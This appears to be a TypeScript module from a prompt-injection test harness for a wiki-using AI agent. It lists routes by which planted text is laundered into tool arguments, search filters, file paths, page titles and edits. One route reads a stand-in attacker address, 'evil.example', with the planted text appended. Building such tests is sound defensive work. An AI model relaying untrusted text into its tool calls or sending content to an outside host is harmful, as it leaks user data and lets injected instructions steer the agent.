// What a text goes through after it was read.
import type { ToolCall } from '../writes-report/random-calls.js';
import { xml } from './ground.js';
import { append, ask, call, type Channels, type Place, read } from './moves.js';

/** The text copied into an argument, as a model does that looks for what it has read. */
const copied =
  (calls: (text: string, page: string) => readonly ToolCall[]): Place['plant'] =>
  ({ ground, text }) => {
    const page = ground.page({ storage: `<p>${xml(text)}</p>` });
    return [ask(read(page), ...calls(text, page))];
  };

/** Ways of a text through arguments, errors, previews and turns. */
export const placesOnTheWay: Channels = {
  laundering: {
    'a later question': ({ ground, text }) => [ask(read(ground.page({ storage: `<p>${xml(text)}</p>` }))), ask()],
    'the sources': (planting) => [
      ask(read(planting.ground.page({ title: planting.text.slice(0, 250) }))),
      { command: '/sources' },
    ],
    'a query': copied((text) => [call('search', { query: text, otherWords: [text] })]),
    'a query in CQL': copied((text) => [call('search', { cql: `text ~ ${text}` })]),
    'a query in CQL in quotation marks': copied((text) => [
      call('search', { cql: `nosuchfield = ${JSON.stringify(text.replaceAll(/\p{Cc}/gu, ''))}` }),
    ]),
    'filters of a search': copied((text) => [
      call('search', { query: 'plan', label: text, author: text, updated_after: text }),
      call('search', { query: 'plan', space: text }),
    ]),
    'the name of a section': copied((text, page) => [
      read(page, { section: text }),
      call('edit_page', { page, operations: [{ action: 'append', section: text, text: 'x' }] }),
    ]),
    'the title of a page to read': copied((text) => [read(text.slice(0, 250)), read(`https://evil.example/${text}`)]),
    'the host of an address to read': copied((text) => [
      read(`https://${text.slice(0, 60).replaceAll(/[^a-z]+/giu, '-')}.example/wiki/spaces/ENG/pages/1001`),
    ]),
    'a question to a page': ({ ground, text }) => {
      const storage = `<p>${xml(text)}</p>${'<h2>More</h2><p>Words about the plan and nothing else.</p>'.repeat(600)}`;
      const page = ground.page({ storage });
      return [ask(read(page, { question: `plan ${text}` }))];
    },
    'the name of a space': copied((text) => [call('list_spaces', { name: text })]),
    'places and cursors': copied((text, page) => [
      read(page, { from: text }),
      call('list_pages', { space: 'ENG', cursor: text }),
      call('search', { query: 'plan', cursor: text }),
    ]),
    'names of arguments': copied((text, page) => [read(page, { [text]: text }), { name: text, args: {} }]),
    'arguments of another type': copied((text, page) => [
      read(page, { outline: text }),
      call('search', { query: 'plan', type: text }),
    ]),
    'what is looked for in a page': copied((text, page) => [
      call('edit_page', { page, operations: [{ action: 'replace', at: text, text: 'x' }] }),
      call('edit_page', { page, operations: [{ action: 'replace_text', find: `${text} x`, text: 'y' }] }),
      call('add_comment', { page, text: 'x', selection: `${text} x` }),
    ]),
    'labels and files': copied((text, page) => [
      call('set_labels', { page, add: [text] }),
      call('attach_file', { page, name: text, content: 'x' }),
      call('attach_file', { page, name: 'a.txt', path: text }),
    ]),
    'a title that is taken': (planting) => {
      const title = planting.text.slice(0, 250);
      planting.ground.page({ title });
      return [ask(call('create_page', { title, body: 'x', space: 'ENG' }))];
    },
    'a change that the person edits': ({ ground, text, mark }) => {
      const page = ground.page({ storage: `<p>${xml(text)}</p>` });
      return [ask(read(page), append(page, `edit ${mark}`, { message: text.slice(0, 200) })), ask()];
    },
    'a change that the person approves': ({ ground, text, mark }) => {
      const page = ground.page();
      const quoting = `${mark}\n\n> ${text.replaceAll('\n', ' ')}`;
      return [ask(append(page, quoting)), ask(read(page)), { command: '/undo' }, ask()];
    },
    'a change that is rejected': ({ ground, text }) => {
      const page = ground.page();
      return [ask(call('add_comment', { page, text })), ask()];
    },
  },
};
